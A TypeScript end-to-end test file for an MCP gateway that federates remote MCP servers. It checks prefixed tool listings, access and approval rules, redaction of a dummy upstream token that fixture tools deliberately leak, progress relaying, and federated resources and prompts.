import { Client as ClientV2, StreamableHTTPClientTransport as TransportV2 } from '@modelcontextprotocol/client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { connectClientV1, connectClientV2 } from '../support/connect-mcp-clients.ts';
import { freePort as closedPort } from '../support/free-port.ts';
import {
  type FixtureFeatures,
  type FixtureTool,
  type LegacyMcpUpstream,
  registerAskingTool,
  startLegacyMcpUpstream,
  startModernMcpUpstream,
} from '../support/start-mcp-upstream.ts';
import { type EndlessStream, startScriptedMcpServer, streamWithoutEnd } from '../support/start-scripted-mcp-server.ts';
import { startTestGateway, type TestGateway } from '../support/start-test-gateway.ts';

/**
 * Remote MCP servers as services (issue 12): real MCP servers built with the SDK on 127.0.0.1 (a 2025-era one with
 * sessions and paged listings, a 2026-07-28 one), federated by the real gateway and driven by real MCP clients of
 * both eras through it.
 */
const clientKey = 'gatehouse_sk_federation_agent_key_0123456789ab';
const otherKey = 'gatehouse_sk_federation_other_key_0123456789ab';
const upstreamToken = 'upstream-mcp-bearer-0123456789abcdef';
const adminToken = 'federation-admin-token-0123456789abcdef';

/** Calls of the `wait` tool whose upstream request was cancelled (by the gateway relaying the client's cancel). */
const cancelledUpstream: string[] = [];

const tools: FixtureTool[] = [
  {
    name: 'echo',
    description: 'Echoes text',
    // As zod-made schemas of SDK servers declare it: draft-07 (the gateway's validator is 2020-12).
    inputSchema: {
      $schema: 'http://json-schema.org/draft-07/schema#',
      type: 'object',
      properties: { text: { type: 'string' } },
      required: ['text'],
    },
    call: (args) => ({ content: [{ type: 'text', text: `echo: ${String(args['text'])}` }] }),
  },
  {
    name: 'lookup.weather',
    description: 'Weather of a city',
    inputSchema: { type: 'object', properties: { city: { type: 'string' } }, required: ['city'] },
    outputSchema: { type: 'object', properties: { city: { type: 'string' }, celsius: { type: 'number' } } },
    annotations: { readOnlyHint: true, openWorldHint: false },
    call: (args) => ({
      content: [{ type: 'text', text: `{"city":"${String(args['city'])}","celsius":21}` }],
      structuredContent: { city: args['city'], celsius: 21 },
    }),
  },
  {
    name: 'media',
    description: 'Content of every type',
    call: () => ({
      content: [
        { type: 'text', text: 'a picture, a sound, a link and a file' },
        { type: 'image', data: 'iVBORw0KGgo=', mimeType: 'image/png' },
        { type: 'audio', data: 'UklGRg==', mimeType: 'audio/wav', annotations: { audience: ['user'] } },
        { type: 'resource_link', uri: 'file:///report.pdf', name: 'report', mimeType: 'application/pdf' },
        { type: 'resource', resource: { uri: 'file:///notes.txt', mimeType: 'text/plain', text: 'notes' } },
      ],
      _meta: { 'example.com/trace': 'abc', 'io.modelcontextprotocol/related-task': { taskId: 'forged' } },
    }),
  },
  {
    name: 'leak',
    // The listing echoes the token too (the listing presents the same credential).
    description: `Answers with the token it was sent (${upstreamToken})`,
    call: () => ({ content: [{ type: 'text', text: `my token is ${upstreamToken}` }] }),
  },
  {
    name: 'leak_error',
    description: 'Fails with a JSON-RPC error naming the token it was sent (after `pad` characters)',
    call: (args) => {
      throw new Error(`${'y'.repeat(Number(args['pad'] ?? 0))}the token ${upstreamToken} is not allowed here`);
    },
  },
  {
    name: 'fail',
    description: 'Fails as a tool',
    call: () => ({ content: [{ type: 'text', text: 'the tool failed on purpose' }], isError: true }),
  },
  {
    name: 'big',
    description: 'A large answer',
    annotations: { destructiveHint: false },
    call: () => ({ content: [{ type: 'text', text: 'x'.repeat(40_000) }] }),
  },
  {
    name: 'progress',
    description: 'Reports progress three times',
    annotations: { destructiveHint: false },
    call: async (_args, request) => {
      // Each message echoes the token the server was sent: the client sees it scrubbed.
      for (let step = 1; step <= 3; step++) await request?.progress(step, 3, `step ${step} with ${upstreamToken}`);
      return {
        content: [{ type: 'text', text: `progress token ${request?.progressToken === undefined ? 'absent' : 'sent'}` }],
      };
    },
  },
  {
    name: 'wait',
    description: 'Waits until cancelled',
    inputSchema: { type: 'object', properties: { label: { type: 'string' } }, required: ['label'] },
    annotations: { destructiveHint: false },
    call: (args, request) =>
      new Promise((resolve) => {
        const done = () => {
          cancelledUpstream.push(String(args['label']));
          resolve({ content: [{ type: 'text', text: 'cancelled' }] });
        };
        if (request?.signal.aborted) done();
        else request?.signal.addEventListener('abort', done, { once: true });
        setTimeout(() => resolve({ content: [{ type: 'text', text: 'never cancelled' }] }), 20_000).unref();
      }),
  },
  ...(
    [
      [
        'ask_name',
        'elicitation/create',
        {
          message: 'Your name?',
          requestedSchema: { type: 'object', properties: { name: { type: 'string' } }, required: ['name'] },
        },
        (answer: { content?: { name?: string } }) => `hello ${answer.content?.name}`,
      ],
      [
        'ask_url',
        'elicitation/create',
        { mode: 'url', url: 'https://example.com/consent', message: 'Open this page', elicitationId: 'e-1' },
        (answer: { action?: string }) => `url elicitation ${answer.action}`,
      ],
      [
        // A server that echoes its credential into its question, with gateway-owned keys in the question's _meta.
        'ask_leaky',
        'elicitation/create',
        {
          message: `Confirm the request sent with Bearer ${upstreamToken}`,
          requestedSchema: { type: 'object', properties: { name: { type: 'string' } }, required: ['name'] },
          _meta: { 'io.modelcontextprotocol/related-task': { taskId: 'forged' }, 'gatehouse/x': 1, kept: 'yes' },
        },
        (answer: { content?: { name?: string } }) => `hello ${answer.content?.name}`,
      ],
      [
        'ask_model',
        'sampling/createMessage',
        { messages: [{ role: 'user', content: { type: 'text', text: 'Say hi' } }], maxTokens: 10 },
        (answer: { content?: { text?: string } }) => `model said ${answer.content?.text}`,
      ],
    ] as const
  ).map(
    ([name, method, params, say]): FixtureTool => ({
      name,
      description: `Asks its client (${method})`,
      annotations: { destructiveHint: false },
      call: async (_args, request) => {
        try {
          const answer = await request?.ask(method, params);
          return { content: [{ type: 'text', text: (say as (a: unknown) => string)(answer) }] };
        } catch (error) {
          return { content: [{ type: 'text', text: `${method} failed: ${(error as Error).message}` }] };
        }
      },
    }),
  ),
  {
    name: 'delete_item',
    description: 'Deletes an item',
    inputSchema: { type: 'object', properties: { id: { type: 'string' } }, required: ['id'] },
    annotations: { destructiveHint: true },
    call: (args) => ({ content: [{ type: 'text', text: `deleted ${String(args['id'])}` }] }),
  },
];

const words = 'lorem ipsum dolor sit amet '.repeat(4_000);
const features: FixtureFeatures = {
  resources: [
    ...['alpha', 'beta', 'gamma'].map((name) => ({
      uri: `docs://${name}`,
      name,
      mimeType: 'text/plain',
      read: (uri: string) =>
        uri === `docs://${name}` ? [{ uri, mimeType: 'text/plain', text: `the ${name} document` }] : undefined,
    })),
    {
      uri: 'docs://secret',
      name: 'secret',
      read: (uri) => (uri === 'docs://secret' ? [{ uri, text: `the token is ${upstreamToken}` }] : undefined),
    },
    {
      uri: 'docs://big',
      name: 'big',
      read: (uri) => (uri === 'docs://big' ? [{ uri, mimeType: 'text/plain', text: words }] : undefined),
    },
    {
      uri: 'docs://logo',
      name: 'logo',
      mimeType: 'image/png',
      read: (uri) => (uri === 'docs://logo' ? [{ uri, mimeType: 'image/png', blob: 'iVBORw0KGgo=' }] : undefined),
    },
    {
      uriTemplate: 'issues://{id}',
      name: 'issue',
      read: (uri) => {
        const id = /^issues:\/\/(\d+)$/.exec(uri)?.[1];
        return id === undefined ? undefined : [{ uri, mimeType: 'application/json', text: `{"issue":${id}}` }];
      },
    },
  ],
  prompts: [
    {
      name: 'summarize',
      description: 'Summarise a topic',
      arguments: [{ name: 'topic', description: 'What to summarise', required: true }],
      get: (args) => [{ role: 'user', content: { type: 'text', text: `Summarise ${args['topic']}` } }],
    },
    {
      name: 'review.code',
      description: 'Review code',
      get: () => [
        { role: 'user', content: { type: 'text', text: 'Review this' } },
        { role: 'user', content: { type: 'image', data: 'iVBORw0KGgo=', mimeType: 'image/png' } },
      ],
    },
    {
      name: 'leaky',
      get: () => [{ role: 'assistant', content: { type: 'text', text: `I was sent ${upstreamToken}` } }],
    },
  ],
};

let legacy: LegacyMcpUpstream;
let modern: { url: string; close(): Promise<void> };
let gateway: TestGateway;

beforeAll(async () => {
  legacy = await startLegacyMcpUpstream(tools, upstreamToken, 2, features);
  modern = await startModernMcpUpstream();
  gateway = await startTestGateway({
    adminToken,
    unsafeAllowPrivateUpstreams: ['127.0.0.1'],
    tenants: [
      {
        id: 'acme',
        services: [
          { id: 'linear', mcp: legacy.url, auth: { type: 'bearer', token: upstreamToken } },
          { id: 'modern', mcp: modern.url },
          // The same server with a small answer cap: a large result is refused while it streams.
          { id: 'tiny', mcp: legacy.url, auth: { type: 'bearer', token: upstreamToken }, maxResponseBytes: 8_000 },
          // A server that is down: the gateway still starts and serves the others.
          {
            id: 'down',
            mcp: `http://127.0.0.1:${await closedPort()}/mcp`,
            connectTimeoutSeconds: 2,
            timeoutSeconds: 5,
          },
        ],
        toolsets: [
          { id: 'all', tools: ['*'], access: 'write', approval: 'none', discovery: { mode: 'never' } },
          {
            id: 'reader',
            tools: ['*'],
            access: 'read',
            policy: { safety: { linear_lookup_weather: 'safe' } },
            discovery: { mode: 'never' },
          },
          { id: 'bare', tools: ['*'], unprefixed: ['linear'], access: 'write', discovery: { mode: 'never' } },
          {
            id: 'narrow',
            tools: ['*'],
            exclude: ['linear_resources', 'linear_summarize', 'modern_*'],
            access: 'read',
            discovery: { mode: 'never' },
          },
        ],
        clientKeys: [
          { name: 'agent', key: clientKey, toolsets: ['all', 'reader', 'bare', 'narrow'], subject: 'alice' },
          { name: 'other', key: otherKey, toolsets: ['all'], subject: 'bob' },
        ],
      },
    ],
  });
}, 60_000);

afterAll(async () => {
  await gateway?.close();
  await legacy?.close();
  await modern?.close();
});

const connectV2 = (toolset: string) =>
  connectClientV2(`${gateway.url}/mcp/acme/${toolset}`, clientKey, 'federation-e2e');
const connectV1 = (toolset: string) =>
  connectClientV1(`${gateway.url}/mcp/acme/${toolset}`, clientKey, 'federation-e2e-v1');

type Result = {
  isError?: boolean;
  content: Record<string, unknown>[];
  structuredContent?: Record<string, unknown>;
  _meta?: Record<string, unknown>;
};

async function toolCallRecords(): Promise<number> {
  await gateway.adapters.audit?.flush();
  return (await gateway.adapters.store.audit.query({ tenantId: 'acme', kind: 'tool_call', limit: 10_000 })).length;
}

describe('remote MCP servers as services', () => {
  it('lists every page of a 2025-era server and a 2026-era server as prefixed tools, schemas and hints intact', async () => {
    const client = await connectV2('all');
    const listed = (await client.listTools()).tools.filter((t) => !t.name.startsWith('gatehouse_'));
    expect(
      listed
        .map((t) => t.name)
        .filter((name) => !name.startsWith('tiny_'))
        .sort(),
    ).toEqual(
      [
        'linear_big',
        'linear_delete_item',
        'linear_echo',
        'linear_fail',
        'linear_ask_leaky',
        'linear_ask_model',
        'linear_ask_name',
        'linear_ask_url',
        'linear_leak',
        'linear_leak_error',
        'linear_lookup_weather',
        'linear_media',
        'linear_progress',
        'linear_wait',
        'modern_whoami',
      ].sort(),
    );
    const weather = listed.find((t) => t.name === 'linear_lookup_weather');
    expect(weather?.inputSchema).toEqual(tools[1]?.inputSchema);
    expect(weather?.outputSchema).toEqual(tools[1]?.outputSchema);
    expect(weather?.annotations).toMatchObject({ readOnlyHint: true, openWorldHint: false });
    await client.close();
  });

  it('calls a tool with the service credential (never the client key) and passes its content through', async () => {
    const client = await connectV2('all');
    const before = await toolCallRecords();
    const result = (await client.callTool({ name: 'linear_echo', arguments: { text: 'hello' } })) as Result;
    expect(result.isError).toBeFalsy();
    expect(result.content).toEqual([{ type: 'text', text: 'echo: hello' }]);
    const sent = legacy.calls.at(-1);
    expect(sent).toEqual({ name: 'echo', args: { text: 'hello' }, authorization: `Bearer ${upstreamToken}` });
    // Exactly one audit record per call.
    expect(await toolCallRecords()).toBe(before + 1);
    await client.close();
  });

  it("passes the client's request _meta on to the server, except the keys the gateway owns (clients of both eras)", async () => {
    for (const client of [await connectV2('all'), await connectV1('all')]) {
      const result = (await client.callTool({
        name: 'linear_echo',
        arguments: { text: 'meta' },
        _meta: {
          'com.example/ticket': 'T-42',
          traceHint: { depth: 2 },
          'gatehouse.debug': true,
          'io.modelcontextprotocol/clientCapabilities': { elicitation: { url: {} } },
        },
      })) as Result;
      expect(result.isError).toBeFalsy();
      expect(legacy.calls.at(-1)?.meta).toEqual({ 'com.example/ticket': 'T-42', traceHint: { depth: 2 } });
      await client.close();
    }
  });

  it('passes structuredContent through to clients of both eras', async () => {
    for (const client of [await connectV2('all'), await connectV1('all')]) {
      const result = (await client.callTool({
        name: 'linear_lookup_weather',
        arguments: { city: 'Oslo' },
      })) as Result;
      expect(result.structuredContent).toEqual({ city: 'Oslo', celsius: 21 });
      expect(result.content).toEqual([{ type: 'text', text: '{"city":"Oslo","celsius":21}' }]);
      await client.close();
    }
  });

  it('passes every content type through unchanged, and _meta without the keys the gateway owns', async () => {
    const client = await connectV1('all');
    const result = (await client.callTool({ name: 'linear_media', arguments: {} })) as Result;
    const media = tools.find((tool) => tool.name === 'media') as FixtureTool;
    expect(result.content).toEqual((media.call({}) as { content: unknown[] }).content);
    expect(result._meta?.['example.com/trace']).toBe('abc');
    expect(result._meta?.['io.modelcontextprotocol/related-task']).toBeUndefined();
    await client.close();
  });

  it('listing_leaks_credential: a tool listing is scrubbed of the credential it was listed with', async () => {
    const client = await connectV2('all');
    const listed = (await client.listTools()).tools.find((t) => t.name === 'linear_leak');
    expect(listed?.description).toBe('Answers with the token it was sent ([REDACTED])');
    await client.close();
  });

  it('scrubs the service credential from results and passes a tool error through as isError', async () => {
    const client = await connectV2('all');
    const leak = (await client.callTool({ name: 'linear_leak', arguments: {} })) as Result;
    expect(JSON.stringify(leak)).not.toContain(upstreamToken);
    const refused = (await client.callTool({ name: 'linear_leak_error', arguments: {} })) as Result;
    expect(refused.isError).toBe(true);
    expect(JSON.stringify(refused)).not.toContain(upstreamToken);
    const failed = (await client.callTool({ name: 'linear_fail', arguments: {} })) as Result;
    expect(failed.isError).toBe(true);
    expect(failed.content).toEqual([{ type: 'text', text: 'the tool failed on purpose' }]);
    await client.close();
  });

  it('error_excerpt_splits_credential: a server error whose excerpt would cut the credential in two reaches neither the client nor the audit with any of it', async () => {
    const client = await connectV2('all');
    // The excerpt is the first 500 characters of the server's message: the token starts 20 characters before its end.
    const refused = (await client.callTool({ name: 'linear_leak_error', arguments: { pad: 470 } })) as Result;
    expect(refused.isError).toBe(true);
    expect(JSON.stringify(refused)).toContain('the token');
    expect(JSON.stringify(refused)).not.toContain(upstreamToken.slice(0, 12));
    await gateway.adapters.audit?.flush();
    const records = await gateway.adapters.store.audit.query({ tenantId: 'acme', kind: 'tool_call', limit: 10_000 });
    expect(JSON.stringify(records)).not.toContain(upstreamToken.slice(0, 12));
    await client.close();
  });

  it('validates arguments against the upstream input schema before calling it', async () => {
    const client = await connectV2('all');
    const calls = legacy.calls.length;
    const result = (await client.callTool({ name: 'linear_echo', arguments: { text: 42 } })) as Result;
    expect(result.isError).toBe(true);
    expect(JSON.stringify(result.structuredContent)).toContain('invalid_arguments');
    expect(legacy.calls.length).toBe(calls);
    await client.close();
  });

  it('never trusts readOnlyHint: a read toolset shows only the tool the operator classed safe', async () => {
    const client = await connectV2('reader');
    const listed = (await client.listTools()).tools.map((t) => t.name).filter((name) => !name.startsWith('gatehouse_'));
    // modern_whoami says readOnlyHint too, but nobody vouched for it.
    expect(listed).toEqual(['linear_lookup_weather']);
    const read = (await client.callTool({ name: 'linear_lookup_weather', arguments: { city: 'Rome' } })) as Result;
    expect(read.structuredContent).toEqual({ city: 'Rome', celsius: 21 });
    const denied = (await client.callTool({ name: 'linear_echo', arguments: { text: 'x' } })) as Result;
    expect(denied.isError).toBe(true);
    // The refusal names the two settings of the toolset that would let it through, and why hints do not count.
    const refusal = (denied.structuredContent as { error: { code: string; message: string; details: object } }).error;
    expect(refusal.code).toBe('access_mode_denied');
    expect(refusal.details).toEqual({
      tool: 'linear_echo',
      toolset: 'reader',
      settings: ['access', 'policy.safety'],
      reason: 'remote_hints',
    });
    expect(refusal.message).toContain("toolset reader's access");
    expect(refusal.message).not.toContain(upstreamToken);
    await client.close();
  });

  it('exposes a service unprefixed when a toolset asks; tools not marked non-destructive need approval', async () => {
    const client = await connectV2('bare');
    const listed = (await client.listTools()).tools.map((t) => t.name);
    expect(listed).toContain('echo');
    expect(listed).toContain('lookup_weather');
    expect(listed).toContain('modern_whoami');
    const weather = (await client.callTool({ name: 'lookup_weather', arguments: { city: 'Bergen' } })) as Result;
    expect(weather.structuredContent).toEqual({ city: 'Bergen', celsius: 21 });
    const calls = legacy.calls.length;
    // delete_item says it is destructive; echo says nothing, and the MCP default (destructive) applies.
    for (const [name, args] of [
      ['delete_item', { id: '7' }],
      ['echo', { text: 'bare' }],
    ] as const) {
      const pending = (await client.callTool({ name, arguments: args })) as Result;
      expect(pending.isError).toBe(true);
      expect(JSON.stringify(pending.structuredContent)).toContain('approval_required');
    }
    expect(legacy.calls.length).toBe(calls);
    await client.close();
  });

  it('calls a 2026-07-28 server (modern era negotiated upstream)', async () => {
    const client = await connectV1('all');
    const result = (await client.callTool({ name: 'modern_whoami', arguments: { greeting: 'hi' } })) as Result;
    expect(result.structuredContent).toEqual({ server: 'modern', greeting: 'hi' });
    // The remote server's own server info is a gateway-owned key: it does not reach the client.
    expect(JSON.stringify(result._meta ?? {})).not.toContain('fixture-modern');
    await client.close();
  });

  it('reuses one upstream session, and opens a new one when the server forgets it (404)', async () => {
    const client = await connectV2('all');
    const opened = legacy.sessionsOpened();
    await client.callTool({ name: 'linear_echo', arguments: { text: 'one' } });
    await client.callTool({ name: 'linear_echo', arguments: { text: 'two' } });
    expect(legacy.sessionsOpened()).toBe(opened);
    legacy.expireSessions();
    const after = (await client.callTool({ name: 'linear_echo', arguments: { text: 'three' } })) as Result;
    expect(after.content).toEqual([{ type: 'text', text: 'echo: three' }]);
    expect(legacy.sessionsOpened()).toBe(opened + 1);
    await client.close();
  });

  it('refuses an answer over the service maxResponseBytes with upstream_too_large', async () => {
    const client = await connectV2('all');
    const capped = (await client.callTool({ name: 'tiny_big', arguments: {} })) as Result;
    expect(capped.isError).toBe(true);
    expect(JSON.stringify(capped.structuredContent)).toContain('upstream_too_large');
    const whole = (await client.callTool({ name: 'linear_big', arguments: {} })) as Result;
    expect(whole.isError).toBeFalsy();
    await client.close();
  });

  it('keeps serving when a federated server is down: its tools are absent and its status degraded', async () => {
    const client = await connectV2('all');
    const listed = (await client.listTools()).tools.map((t) => t.name);
    expect(listed.some((name) => name.startsWith('down_'))).toBe(false);
    const status = gateway.gateway.federation?.status() ?? [];
    expect(status.find((s) => s.service === 'down')?.state).toBe('degraded');
    expect(status.find((s) => s.service === 'linear')?.state).toBe('listed');
    await client.close();
  });

  it('unlisted_tool_answers_bare_unknown: a call to a tool of a server whose listing failed says so, not a bare Unknown tool', async () => {
    // The agent was told `Unknown tool` and nothing else: it could not tell a typo from a server that is down.
    const client = await connectV2('all');
    const refused = client.callTool({ name: 'down_search_issues', arguments: {} });
    await expect(refused).rejects.toThrow(
      /Unknown tool: down_search_issues\. Service down is a remote MCP server whose tools are not listed now \(its last listing failed\)/,
    );
    await expect(refused).rejects.toMatchObject({ code: -32602 });
    // The reason stays with the operator (the admin API): the server's address is not the caller's to know.
    await expect(refused).rejects.not.toThrow(/127\.0\.0\.1|ECONNREFUSED/);
    // A name of no unlisted service (a typo), here in a toolset whose unprefixed service is listed: as before.
    await expect(client.callTool({ name: 'nothing_here', arguments: {} })).rejects.toThrow(
      /^(?!.*Service).*Unknown tool: nothing_here$/,
    );
    await client.close();
    const bare = await connectV2('bare');
    await expect(bare.callTool({ name: 'nothing_here', arguments: {} })).rejects.toThrow(/Unknown tool: nothing_here$/);
    await bare.close();
    // A call asking for progress takes the SDK server's path, not the fast path: answered the same.
    const v1 = await connectV1('all');
    const tracked = v1.callTool({ name: 'down_search_issues', arguments: {} }, undefined, { onprogress: () => {} });
    await expect(tracked).rejects.toThrow(/Service down is a remote/);
    await v1.close();
  });

  it('degraded_reason_unreachable: the admin API says why a federated service is degraded (readyz names it only)', async () => {
    const admin = (tenant: string) =>
      fetch(`${gateway.url}/api/v1/tenants/${tenant}/federation`, {
        headers: { authorization: `Bearer ${adminToken}` },
      });
    const answer = await admin('acme');
    expect(answer.status).toBe(200);
    const text = await answer.text();
    const body = JSON.parse(text) as { tenant: string; services: Record<string, unknown>[] };
    expect(body.tenant).toBe('acme');
    expect(body.services.find((s) => s['service'] === 'down')).toMatchObject({
      state: 'degraded',
      tools: 0,
      problem: expect.stringMatching(
        /^The MCP server of down cannot be reached \(http:\/\/127\.0\.0\.1:\d+, ECONNREFUSED\)/,
      ),
    });
    expect(body.services.find((s) => s['service'] === 'linear')).toMatchObject({ state: 'listed' });
    expect(body.services.find((s) => s['service'] === 'linear')?.['tools']).toBeGreaterThan(0);
    expect(text).not.toContain(upstreamToken);
    expect((await admin('nobody')).status).toBe(404);
    const anonymous = await fetch(`${gateway.url}/api/v1/tenants/acme/federation`);
    expect(anonymous.status).toBe(401);
  });

  it('lists again on notifications/tools/list_changed', async () => {
    legacy.tools.push({
      name: 'added_later',
      description: 'A tool the server added',
      call: () => ({ content: [{ type: 'text', text: 'new' }] }),
    });
    await legacy.notifyChanged();
    const client = await connectV2('all');
    let names: string[] = [];
    for (let i = 0; i < 100 && !names.includes('linear_added_later'); i++) {
      names = (await client.listTools()).tools.map((t) => t.name);
      if (!names.includes('linear_added_later')) await new Promise((resolve) => setTimeout(resolve, 100));
    }
    expect(names).toContain('linear_added_later');
    const result = (await client.callTool({ name: 'linear_added_later', arguments: {} })) as Result;
    expect(result.content).toEqual([{ type: 'text', text: 'new' }]);
    await client.close();
  });
});

/** The audit records of calls of the `wait` tool. */
async function waitRecords(): Promise<{ decision: string; code: string | null }[]> {
  await gateway.adapters.audit?.flush();
  return (await gateway.adapters.store.audit.query({ tenantId: 'acme', kind: 'tool_call', limit: 10_000 }))
    .filter((record) => record.tool === 'linear_wait')
    .map((record) => ({ decision: record.decision, code: record.code }));
}

async function records(method: string): Promise<{ tool: string; decision: string; pathTemplate: string | null }[]> {
  await gateway.adapters.audit?.flush();
  return (await gateway.adapters.store.audit.query({ tenantId: 'acme', kind: 'tool_call', limit: 10_000 }))
    .filter((record) => record.method === method)
    .map((record) => ({ tool: record.tool, decision: record.decision, pathTemplate: record.pathTemplate }));
}

describe('federated resources and prompts', () => {
  it('lists every page of resources, templates and prompts of both servers, prompts prefixed, to clients of both eras', async () => {
    for (const client of [await connectV2('all'), await connectV1('all')]) {
      expect(client.getServerCapabilities()).toMatchObject({ resources: {}, prompts: {} });
      const resources = (await client.listResources()).resources.map((r) => r.uri);
      // linear and tiny are one server under two service ids: its URIs are listed once per service.
      expect([...new Set(resources.filter((uri) => uri.startsWith('docs://')))]).toEqual(
        ['alpha', 'beta', 'gamma', 'secret', 'big', 'logo'].map((name) => `docs://${name}`),
      );
      expect(resources).toContain('modern://motd');
      const templates = (await client.listResourceTemplates()).resourceTemplates;
      expect(templates.map((t) => t.uriTemplate)).toContain('issues://{id}');
      const prompts = (await client.listPrompts()).prompts;
      expect(prompts.map((p) => p.name).sort()).toEqual(
        [
          'linear_leaky',
          'linear_review_code',
          'linear_summarize',
          'modern_greet',
          'tiny_leaky',
          'tiny_review_code',
          'tiny_summarize',
        ].sort(),
      );
      expect(prompts.find((p) => p.name === 'linear_summarize')).toMatchObject({
        description: 'Summarise a topic',
        arguments: [{ name: 'topic', description: 'What to summarise', required: true }],
      });
      await client.close();
    }
  });

  it('reads listed and templated resources with the service credential, one audit record per read', async () => {
    const client = await connectV2('all');
    const before = (await records('resources/read')).length;
    const text = await client.readResource({ uri: 'docs://beta' });
    expect(text.contents).toEqual([{ uri: 'docs://beta', mimeType: 'text/plain', text: 'the beta document' }]);
    expect(legacy.reads.at(-1)).toEqual({
      method: 'resources/read',
      target: 'docs://beta',
      authorization: `Bearer ${upstreamToken}`,
    });
    const templated = await client.readResource({ uri: 'issues://42' });
    expect(templated.contents).toEqual([{ uri: 'issues://42', mimeType: 'application/json', text: '{"issue":42}' }]);
    const binary = await client.readResource({ uri: 'docs://logo' });
    expect(binary.contents).toEqual([{ uri: 'docs://logo', mimeType: 'image/png', blob: 'iVBORw0KGgo=' }]);
    const modern = await client.readResource({ uri: 'modern://motd' });
    expect(modern.contents[0]).toMatchObject({ text: 'modern message of the day' });
    const audited = (await records('resources/read')).slice(before);
    expect(audited).toEqual(
      expect.arrayContaining([
        { tool: 'linear_resources', decision: 'allow', pathTemplate: 'docs://beta' },
        { tool: 'linear_resources', decision: 'allow', pathTemplate: 'issues://42' },
        { tool: 'modern_resources', decision: 'allow', pathTemplate: 'modern://motd' },
      ]),
    );
    expect(audited).toHaveLength(4);
    await client.close();
  });

  it('scrubs the service credential from resources and prompts', async () => {
    const client = await connectV1('all');
    const read = await client.readResource({ uri: 'docs://secret' });
    expect(JSON.stringify(read)).not.toContain(upstreamToken);
    expect(JSON.stringify(read)).toContain('the token is');
    const prompt = await client.getPrompt({ name: 'linear_leaky' });
    expect(JSON.stringify(prompt)).not.toContain(upstreamToken);
    await client.close();
  });

  it('gets prompts by their prefixed name with arguments, and refuses a missing argument or unknown prompt', async () => {
    for (const client of [await connectV2('all'), await connectV1('all')]) {
      const before = (await records('prompts/get')).length;
      const got = await client.getPrompt({ name: 'linear_summarize', arguments: { topic: 'federation' } });
      expect(got.messages).toEqual([{ role: 'user', content: { type: 'text', text: 'Summarise federation' } }]);
      expect(legacy.reads.at(-1)).toMatchObject({ method: 'prompts/get', target: 'summarize' });
      const dotted = await client.getPrompt({ name: 'linear_review_code' });
      expect(dotted.messages[1]).toEqual({
        role: 'user',
        content: { type: 'image', data: 'iVBORw0KGgo=', mimeType: 'image/png' },
      });
      const modern = await client.getPrompt({ name: 'modern_greet', arguments: { who: 'Ada' } });
      expect(modern.messages[0]?.content).toEqual({ type: 'text', text: 'Greet Ada' });
      const calls = legacy.reads.length;
      await expect(client.getPrompt({ name: 'linear_summarize' })).rejects.toThrow(/arguments.topic: required/);
      await expect(client.getPrompt({ name: 'linear_nothing' })).rejects.toThrow(/Unknown prompt: linear_nothing/);
      expect(legacy.reads.length).toBe(calls);
      const audited = (await records('prompts/get')).slice(before);
      expect(audited.map((r) => [r.tool, r.decision])).toEqual([
        ['linear_summarize', 'allow'],
        ['linear_review_code', 'allow'],
        ['modern_greet', 'allow'],
        ['linear_summarize', expect.not.stringMatching(/^allow$/)],
        ['linear_nothing', expect.not.stringMatching(/^allow$/)],
      ]);
      await client.close();
    }
  });

  it('keeps to the toolset allow-lists: {service}_resources and prompt names under tools/exclude', async () => {
    const client = await connectV2('narrow');
    const resources = (await client.listResources()).resources.map((r) => r.uri);
    // tiny is the same server under another service id: its resources are not excluded, linear's and modern's are.
    expect(resources).not.toContain('modern://motd');
    expect(resources.filter((uri) => uri.startsWith('docs://'))).toHaveLength(6);
    expect((await client.listResourceTemplates()).resourceTemplates.map((t) => t.name)).toEqual(['issue']);
    const prompts = (await client.listPrompts()).prompts.map((p) => p.name);
    expect(prompts).toContain('linear_leaky');
    expect(prompts).not.toContain('linear_summarize');
    expect(prompts).not.toContain('modern_greet');
    const reads = legacy.reads.length;
    // docs://beta is listed by tiny too: it is served there, never by the excluded linear.
    await client.readResource({ uri: 'docs://beta' });
    await expect(client.readResource({ uri: 'modern://motd' })).rejects.toThrow(/Resource not found/);
    await expect(client.getPrompt({ name: 'linear_summarize', arguments: { topic: 'x' } })).rejects.toThrow(
      /Unknown prompt/,
    );
    // modern://motd went to tiny, the toolset's only resource service (as a resource link's URI would), which has none.
    expect(legacy.reads.slice(reads).map((read) => read.target)).toEqual(['docs://beta', 'modern://motd']);
    await client.close();
  });

  it('holds a large resource to the result budget: a handle and a summary instead', async () => {
    const client = await connectV2('all');
    const read = await client.readResource({ uri: 'docs://big' });
    expect(read.contents).toHaveLength(1);
    const text = (read.contents[0] as { text: string }).text;
    expect(text.length).toBeLessThan(words.length / 4);
    expect(text).toMatch(/handle/i);
    await client.close();
  });

  it('lists prompts and resources again on their list_changed notices', async () => {
    legacy.features.prompts.push({
      name: 'added_prompt',
      get: () => [{ role: 'user', content: { type: 'text', text: 'added' } }],
    });
    legacy.features.resources.push({
      uri: 'docs://added',
      name: 'added',
      read: (uri) => (uri === 'docs://added' ? [{ uri, text: 'added document' }] : undefined),
    });
    await legacy.notifyChanged();
    const client = await connectV2('all');
    let names: string[] = [];
    for (let i = 0; i < 100 && !names.includes('linear_added_prompt'); i++) {
      names = (await client.listPrompts()).prompts.map((p) => p.name);
      if (!names.includes('linear_added_prompt')) await new Promise((resolve) => setTimeout(resolve, 100));
    }
    expect(names).toContain('linear_added_prompt');
    expect((await client.listResources()).resources.map((r) => r.uri)).toContain('docs://added');
    expect((await client.readResource({ uri: 'docs://added' })).contents[0]).toMatchObject({ text: 'added document' });
    await client.close();
  });
});

async function until(condition: () => boolean, what: string): Promise<void> {
  for (let i = 0; i < 200 && !condition(); i++) await new Promise((resolve) => setTimeout(resolve, 50));
  if (!condition()) throw new Error(`timed out waiting for ${what}`);
}

describe('progress and cancellation through a federated server', () => {
  it('relays the upstream progress to the client progress token, its message scrubbed (clients of both eras; progress_message_leaks_credential)', async () => {
    const v2 = await connectV2('all');
    const seen2: { progress: number; total?: number; message?: string }[] = [];
    const result2 = (await v2.callTool(
      { name: 'linear_progress', arguments: {} },
      { onprogress: (progress) => seen2.push(progress) },
    )) as Result;
    expect(result2.content).toEqual([{ type: 'text', text: 'progress token sent' }]);
    expect(seen2).toEqual(
      [1, 2, 3].map((step) => ({ progress: step, total: 3, message: `step ${step} with [REDACTED]` })),
    );
    await v2.close();

    const v1 = await connectV1('all');
    const seen1: { progress: number; total?: number; message?: string }[] = [];
    const result1 = (await v1.callTool({ name: 'linear_progress', arguments: {} }, undefined, {
      onprogress: (progress) => seen1.push(progress),
    })) as Result;
